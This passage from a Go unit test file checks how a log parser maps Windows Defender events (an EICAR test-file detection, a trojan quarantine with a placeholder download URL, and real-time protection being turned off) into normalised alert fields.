				"Detection User", `CORP\tran.thi.b`, "Process Name", `C:\Program Files\Mozilla Firefox\firefox.exe`,
				"Action Name", "Not Applicable"),
			parser: "defender",
			want: map[string]string{"event.kind": "alert", "event.category": "malware", "event.action": "malware-detected",
				"threat.software.name": "Virus:DOS/EICAR_Test_File", "event.severity": "5",
				"file.path": `C:\Users\tran.thi.b\Downloads\eicar.com`, "file.name": "eicar.com",
				"process.name": "firefox.exe", "user.name": "tran.thi.b", "winlog.event_data.Action Name": "Not Applicable"},
			absent: []string{"event.outcome"},
		},
		{
			name: "defender_1117_quarantined",
			ev: winEvent("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", "1117",
				"Threat Name", "Trojan:Win32/Wacatac.B!ml", "Severity ID", "5", "Path", `webfile:_C:\Users\a\Downloads\setup.exe|https://dl.bad.example/setup.exe`,
				"Process Name", "Unknown", "Detection User", `NT AUTHORITY\SYSTEM`, "Action Name", "Quarantine"),
			parser: "defender",
			want: map[string]string{"event.action": "malware-action-taken", "event.outcome": "success",
				"file.path": `C:\Users\a\Downloads\setup.exe`, "url.original": "https://dl.bad.example/setup.exe", "user.domain": "NT AUTHORITY"},
			absent: []string{"process.name"},
		},
		{
			name:   "defender_5001_rtp_off",
			ev:     winEvent("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", "5001", "Product Name", "Microsoft Defender Antivirus"),
			parser: "defender",
			want:   map[string]string{"event.action": "real-time-protection-disabled", "event.category": "configuration"},
		},
	}
	runCases(t, cases)
}
